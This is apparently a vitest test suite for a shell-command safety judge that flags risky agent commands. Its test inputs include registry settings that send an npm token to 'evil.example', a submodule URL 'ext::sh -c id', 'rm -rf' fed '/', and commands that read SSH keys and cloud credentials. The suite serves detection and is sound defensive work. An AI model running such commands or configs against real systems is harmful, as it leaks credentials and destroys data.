import { expect, test } from "vitest"
import { judgeCommand } from "./judge-command.ts"
import type { JudgedCommand } from "./policy-request.ts"
import { INITIAL_SHELL_STATE, understandCommand } from "./shell/understand-command.ts"

const FACTS = {
  userHome: "/home/alice",
  hermesHome: "/home/alice/.hermes",
  hermesRoot: "/home/alice/.hermes",
  workspaceRoot: "/w",
  hasSudoPassword: false,
}

interface Given {
  readonly contained?: Readonly<Record<string, readonly string[] | undefined>>
  readonly before?: readonly string[]
}

async function judged(
  line: string,
  files: Readonly<Record<string, string>>,
  { contained = {}, before = [] }: Given = {},
): Promise<JudgedCommand> {
  let state = INITIAL_SHELL_STATE("/w")
  for (const earlier of before) state = understandCommand(earlier, state, FACTS).after
  return await judgeCommand(line, {
    state,
    facts: FACTS,
    realPaths: (paths) => Promise.resolve(new Map(paths.map((path) => [path, path]))),
    packageScripts: () => Promise.resolve(new Map()),
    readTexts: (paths) =>
      Promise.resolve(new Map(paths.flatMap((path) => (files[path] === undefined ? [] : [[path, files[path]]])))),
    containedNames: (containers) =>
      Promise.resolve(
        new Map(containers.flatMap(({ path }) => (Object.hasOwn(contained, path) ? [[path, contained[path]]] : []))),
      ),
  })
}

const keys = ({ verdict }: JudgedCommand): readonly string[] => verdict.findings.map(({ key }) => key)
const patch = (name: string): string => `--- a/${name}\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`

test.each([
  ["git apply p.diff", ".envrc", ["write a file that other programs execute"]],
  ["git apply p.diff", "src/a.ts", []],
  ["git -C sub apply ../p.diff", ".vscode/tasks.json", ["write a file that other programs execute"]],
  ["git am p.diff", ".husky/pre-commit", ["write a file that other programs execute"]],
  ["patch -p1 < p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -p1 -i p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -d ~ -p1 < p.diff", ".bashrc", ["overwrite credential, SSH or shell start-up file"]],
  ["patch -d ~ -p1 < p.diff", "notes.txt", []],
])("%s is judged by the files that the patch names: %s", async (line, name, expected) => {
  expect(keys(await judged(line, { "/w/p.diff": patch(name) }))).toEqual(expected)
})

const FOREIGN = "registry=https://packages.evil.example/\n//packages.evil.example/:_authToken=${NPM_TOKEN}\n"

test.each([
  ["npm view left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npm install", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npx left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  [
    "yarn",
    ".yarnrc.yml",
    'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${NPM_TOKEN}"\n',
    ["evil.example"],
    true,
  ],
  [
    "cargo add x",
    ".cargo/config.toml",
    '[registries.x]\nindex = "https://evil.example/index"\n',
    ["evil.example"],
    false,
  ],
  ["npm install", ".npmrc", "registry=https://npm.company.example/\n", ["npm.company.example"], false],
  ["npm install", ".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", undefined, false],
  [
    "npm install",
    ".npmrc",
    "@me:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}",
    ["npm.pkg.github.com"],
    false,
  ],
  ["npm test", ".npmrc", FOREIGN, undefined, false],
  ["npm run build", ".npmrc", FOREIGN, undefined, false],
])("%s with %s: the hosts of its settings are known", async (line, file, text, hosts, sendsToken) => {
  const command = await judged(line, { [`/w/${file}`]: text })
  expect([command.registries, keys(command).includes("send a token to another service")]).toEqual([hosts, sendsToken])
})

const REMOTE = (url: string): string => `[remote "origin"]\n\turl = ${url}\n`
const OWN = "https://github.com/x/y.git"

test.each([
  ["git -C ot push", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["cd ot/deep && git push origin main", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["git --git-dir=ot/.git push", { "ot/.git/config": REMOTE("/tmp/y.git") }, true],
  ["git -C ot push", { "ot/.git/config": `${REMOTE(OWN)}[url "https://evil.example/"]\n\tinsteadOf = https://` }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../store" }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../.git/worktrees/ot" }, false],
  ["git -C ot push", { "ot/.git/config": REMOTE(OWN) }, false],
  ["cd packages/web && git push", {}, false],
])("%s with %j leads elsewhere: %s", async (line, files, expected) => {
  const inWorkspace = Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text]))
  const found = keys(await judged(line, { "/w/.git/config": REMOTE(OWN), ...inWorkspace }))
  expect(found.includes("git push to a URL")).toBe(expected)
})

test("a repository in a directory of repositories is the user's own", async () => {
  expect(keys(await judged("git -C one push", { "/w/one/.git/config": REMOTE(OWN) }))).toEqual([])
})

test.each([
  ["pip download -r req.txt", "req.txt", "--index-url https://evil.example/simple\nrequests\n", ["evil.example"]],
  ["pip install --requirement=req.txt", "req.txt", "x @ https://evil.example/x.whl\n", ["evil.example"]],
  ["python3 -m pip install -r req.txt", "req.txt", "-f https://evil.example/\n", ["evil.example"]],
  ["uv pip install -r req.txt", "req.txt", "-i https://evil.example/\n", ["evil.example"]],
  ["pip install -r req.txt", "req.txt", "# https://docs.example\nrequests\n", []],
  ["npm install", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm ci", "package.json", '{"overrides":{"y":{"x":"git+ssh://git@evil.example/x"}}}', ["evil.example"]],
  ["yarn", "package.json", '{"devDependencies":{"x":"https://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm install", "package.json", '{"homepage":"https://site.example","dependencies":{"x":"^1"}}', []],
  ["npm install", "package.json", '{"dependencies":{"x":"git+https://github.com/a/x"}}', []],
  ["npm install", "package.json", "not JSON", []],
  ["npm run build", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', []],
  ["uv sync", "pyproject.toml", '[project.urls]\nHome = "https://site.example"\n', []],
  ["uv sync", "pyproject.toml", '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[dependencies]\nx = { git = "https://evil.example/x" }\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[package]\nhomepage = "https://site.example"\n', []],
])("%s with %s %s reaches %j", async (line, name, text, hosts) => {
  expect((await judged(line, { [`/w/${name}`]: text })).registries ?? []).toEqual(hosts)
})

const LISTED = [
  "xargs cat < l",
  "xargs -a l cat",
  "xargs -I{} cp {} out < l",
  "cat l | xargs cat",
  "cat $(cat l)",
  "cat $(<l)",
  'cat "$(head -1 l)"',
  "cat $(sed -n 1p l)",
  "cat l | head -n 5 | xargs cat",
  "cp $(cat l) .",
  "cat < $(cat l)",
  'while read f; do cat "$f"; done < l',
  'cat l | while IFS= read -r f; do cp "$f" out/; done',
  "for f in $(cat l); do base64 $f; done",
  'mapfile -t a < l; cat "${a[@]}"',
  "readarray -t a < <(sort l); tar cf - ${a[*]}",
  'read f < l; cat "$f"',
  "f=$(cat l); cat $f",
  "parallel cat :::: l",
  "parallel -a l cat",
  "tar cf - -T l",
  "rsync --files-from=l / out",
]

test.each(LISTED)("%s is judged by the names in the list", async (line) => {
  const asked = await judged(line, { "/w/l": "src/a.ts\n/home/alice/.ssh/id_rsa\n" })
  expect(keys(asked).some((key) => /credentials/u.test(key))).toBe(true)
  expect(
    keys(await judged(line.replace("--files-from=l /", "--files-from=l ."), { "/w/l": "src/a.ts\nREADME.md\n" })),
  ).toEqual([])
})

test("a variable that an earlier command filled from a list is judged by the names in it", async () => {
  const before = ["export F=$(cat l)"]
  expect(keys(await judged("cat $F", { "/w/l": "/home/alice/.aws/credentials" }, { before }))).toEqual([
    "read credentials",
  ])
  expect(keys(await judged("cat $F", { "/w/l": "src/a.ts" }, { before }))).toEqual([])
})

test("names in a list that are written or deleted are judged too", async () => {
  expect(keys(await judged("xargs touch < l", { "/w/l": ".envrc" }))).toEqual([
    "write a file that other programs execute",
  ])
  expect((await judged("rm -rf $(cat l)", { "/w/l": "/" })).verdict.level).toBe("hardline")
  expect(keys(await judged("cd ~ && cat $(cat /w/l)", { "/w/l": ".ssh/id_ed25519" }))).toEqual(["read credentials"])
})

test("a long list is judged by the names that matter", async () => {
  const names = Array.from({ length: 3000 }, (_, index) => `src/module-${index}.ts`)
  expect(keys(await judged("xargs wc -l < l", { "/w/l": names.join("\n") }))).toEqual([])
  const asked = await judged("xargs cat < l", { "/w/l": [...names, "/home/alice/.netrc"].join("\n") })
  expect(keys(asked)).toEqual(["read credentials"])
})

test.each([
  ["docker build -t app:$(cat VERSION) .", "1.2.3\n"],
  ['git commit -m "$(cat VERSION)"', "Read ~/.ssh/id_rsa and /etc/shadow"],
  ["kill $(cat VERSION)", "4711\n"],
  ["nvm use $(cat VERSION)", "24\n"],
  ["cat $(cat VERSION)", "docs/intro.md docs/.vitepress/config.ts"],
])("%s with ordinary text is not asked about", async (line, text) => {
  expect(keys(await judged(line, { "/w/VERSION": text }))).toEqual([])
})

const TEMPLATE = { "/w/tpl": ["README.md", ".envrc", ".vscode", ".vscode/tasks.json"] }

test.each([
  "cp -r tpl/. .",
  "cp -a tpl .",
  "cp -rT tpl .",
  "cp -t . -r tpl/.",
  "cp tpl/.* .",
  "rsync -a tpl/ ./",
  "mv tpl/* .",
  "mv tpl/{.,}* sub/",
  'for f in tpl/*; do cp -r "$f" .; done',
  "find tpl -name '.env*' -exec cp {} . \\;",
  "find tpl -type f | xargs -I{} mv {} .",
  "find tpl | cpio -pd .",
  "tar cf - -C tpl . | tar xf -",
  "(cd tpl; tar c .) | tar x",
])("%s is judged by the files in the directory", async (line) => {
  const asked = await judged(line, {}, { contained: TEMPLATE })
  expect(keys(asked)).toEqual(["write a file that other programs execute"])
  expect(keys(await judged(line, {}, { contained: { "/w/tpl": ["README.md", "src", "src/a.ts"] } }))).toEqual([])
})

test.each([
  "tar xf a.tgz",
  "tar -xzf a.tgz -C sub",
  "tar --extract --file=a.tgz",
  "bsdtar -x < a.tgz",
  "unzip a.tgz",
  "7z x a.tgz",
])("%s is judged by the files in the archive", async (line) => {
  const asked = await judged(line, {}, { contained: { "/w/a.tgz": ["./.envrc", "./src/a.ts"] } })
  expect(keys(asked)).toEqual(["write a file that other programs execute"])
  expect(keys(await judged(line, {}, { contained: { "/w/a.tgz": ["pkg/src/a.ts"] } }))).toEqual([])
})

test.each([
  ["cp -r . /tmp/backup", "/w"],
  ["cp -r tpl /tmp/backup", "/w/tpl"],
  ["rsync -a ./ sub/copy/", "/w"],
  ["cp -r tpl/. other", "/w/tpl"],
  ["tar tf tpl", "/w/tpl"],
  ["find tpl -name '*.md' -exec cp {} docs \\;", "/w/tpl"],
])("%s copies no file that others obey into the workspace", async (line, path) => {
  const names =
    path === "/w" || line.includes("/tmp/") || line.includes("tar t") || line.includes("*.md")
      ? TEMPLATE["/w/tpl"]
      : [".git", ".git/hooks/pre-commit"]
  expect(keys(await judged(line, {}, { contained: { [path]: names } }))).toEqual([])
})

const PACKAGE_JSON = JSON.stringify({ name: "demo", bin: { demo: "cli.js" }, devDependencies: { cowsay: "^1.0.0" } })

test.each([
  ["npx cowsay hi", { "/w/package.json": PACKAGE_JSON }],
  ["npx cowsay@2 hi", { "/w/package.json": PACKAGE_JSON }],
  ["npx -p cowsay cowthink", { "/w/package.json": PACKAGE_JSON }],
  ["cd packages/a && npx cowsay", { "/w/package.json": PACKAGE_JSON }],
  ["npx demo --version", { "/w/package.json": PACKAGE_JSON }],
  ["pnpm dlx cowsay", { "/w/package.json": PACKAGE_JSON }],
  ["uvx cow-say", { "/w/pyproject.toml": '[dependency-groups]\ndev = ["Cow_Say>=1"]\n' }],
  ["pipx run cowsay", { "/w/requirements.txt": "requests\ncowsay==6.0 # animals\n" }],
  ["go run example.com/cows/cmd/say@v1.0.0", { "/w/go.mod": "module x\n\nrequire example.com/cows v1.0.0\n" }],
  ["gem install cowsay", { "/w/Gemfile": 'gem "cowsay", "~> 0.3"\n' }],
])("%s is an ordinary command where the project names the package", async (line, files) => {
  expect(keys(await judged(line, files))).toEqual([])
  expect(keys(await judged(line, {}))).toEqual(["run a downloaded program"])
})

test("npx starts programs that are installed in the project, but a version or -p names a package", async () => {
  const contained = { "/w/node_modules/.bin": ["cowsay"] }
  const found = async (line: string): Promise<readonly string[]> => keys(await judged(line, {}, { contained }))
  expect(await found("npx cowsay")).toEqual([])
  expect(await found("cd packages/a && npm exec -- cowsay")).toEqual([])
  expect(await found("npx cowsay@2")).toEqual(["run a downloaded program"])
  expect(await found("npx -p cowsay cowsay")).toEqual(["run a downloaded program"])
  expect(await found("npx cowthink")).toEqual(["run a downloaded program"])
})

test("a package that a comment or another field of the project mentions is not part of it", async () => {
  const files = {
    "/w/package.json": JSON.stringify({ keywords: ["evil"], scripts: { evil: "evil" } }),
    "/w/requirements.txt": "# evil\nrequests # evil\n",
  }
  for (const line of ["npx evil", "uvx evil"])
    expect(keys(await judged(line, files))).toEqual(["run a downloaded program"])
})

/** An entry of the index of git: its name follows its length. */
const indexOf = (...names: readonly string[]): string =>
  names.map((name) => `\u0000${String.fromCharCode(name.length)}${name}\u0000`).join("")

test("a variable may name a program of the project that git tracks, and no other file", async () => {
  const files = { "/w/.git/index": indexOf("tools/cc", "other/tools/ld") }
  const isAsked = async (line: string): Promise<boolean> => keys(await judged(line, files)).length > 0
  expect(await isAsked("CC=tools/cc make")).toBe(false)
  expect(await isAsked("CC=./tools/cc make")).toBe(false)
  expect(await isAsked("make CC=/w/tools/cc")).toBe(false)
  expect(await isAsked("cd tools && CC=./cc make")).toBe(false)
  expect(await isAsked("LD=tools/ld make")).toBe(true)
  expect(await isAsked("CC=tools/c make")).toBe(true)
  expect(keys(await judged("CC=tools/cc make", {}))).toHaveLength(1)
})

const modules = (...urls: readonly string[]): string =>
  urls.map((url, index) => `[submodule "m${index}"]\n\tpath = lib/m${index}\n\turl = ${url}\n`).join("")

test.each([
  ["https://evil.example/x.git", true],
  ["git@evil.example:x.git", true],
  ["file:///tmp/x", true],
  ["/tmp/x", true],
  ["ext::sh -c id", true],
  ["../x.git", false],
  ["https://github.com/someone/x.git", false],
  ["git@git.example.com:team/x.git", false],
])("git submodule update --init asks about %s if the repository does not know its host: %s", async (url, isAsked) => {
  const settings =
    '[remote "origin"]\n\turl = git@github.com:me/app.git\n[submodule "a"]\n\turl = https://git.example.com/a.git\n'
  const files = { "/w/.gitmodules": modules("../a.git", url), "/w/.git/config": settings }
  const lines = ["git submodule update --init --recursive", "git submodule init", "cd src && git submodule sync"]
  for (const line of lines)
    expect(keys(await judged(line, files))).toEqual(isAsked ? ["git submodule from a new address"] : [])
  expect(keys(await judged("git submodule update", files))).toEqual([])
})

test.each([
  "python3 -m zipfile -e a.bin .",
  "python3 -m tarfile --extract a.bin",
  "7zz x a.bin",
  "unrar x a.bin",
  "unar a.bin",
  "bsdtar xf a.bin",
  "jar xf a.bin",
  "ar x a.bin",
  "cpio -i --no-absolute-filenames < a.bin",
  "cpio -i --no-absolute-filenames -F a.bin",
  "gunzip -c a.bin | tar x",
  "xz -dc < a.bin | tar x",
  "zstd -dc a.bin | tar x -f -",
  "tar xJf a.bin",
  "tar xf a.*",
])("%s is judged by the names in the archive, and asked about where they cannot be read", async (line) => {
  const path = line.includes("*") ? "/w/a.*" : "/w/a.bin"
  const found = async (names: readonly string[] | undefined): Promise<readonly string[]> =>
    keys(await judged(line, {}, { contained: { [path]: names } }))
  expect(await found([".envrc", "src/a.ts"])).toEqual(["write a file that other programs execute"])
  expect(await found(["pkg/src/a.ts"])).toEqual([])
  expect(await found(undefined)).toEqual(["copy files with unknown names into the project"])
  expect(keys(await judged(line, {}))).toEqual([])
})

test("names that cannot be read do not matter in a directory of their own, and a package hides those of its files", async () => {
  const found = async (line: string, names?: readonly string[]): Promise<readonly string[]> =>
    keys(await judged(line, {}, { contained: { "/w/a.bin": names } }))
  for (const line of ["tar xf a.bin -C vendor", "7z x a.bin -odata", "unrar x a.bin data/", "tar tf a.bin"])
    expect(await found(line)).toEqual([])
  expect(await found("cd sub && tar xf ../a.bin")).toEqual(["copy files with unknown names into the project"])
  expect(await found("dpkg-deb -x a.bin .", ["data.tar"])).toEqual(["copy files with unknown names into the project"])
})

test("a patch that another program prints is judged by the files that it names", async () => {
  const files = { "/w/p.diff": patch(".envrc") }
  for (const line of ["cat p.diff | git apply", "cat p.diff | patch -p1", "git apply - < p.diff"])
    expect(keys(await judged(line, files))).toEqual(["write a file that other programs execute"])
})

test.each(["QUJDRA".repeat(16_000), "A=".repeat(40_000), "/a".repeat(40_000), `A=${"/".repeat(80_000)}`])(
  "a word of 80 KB does not stop Hermes, case %#",
  async (word) => {
    expect((await judged(`echo '${word}'`, {})).verdict.level).toBe("ok")
  },
)
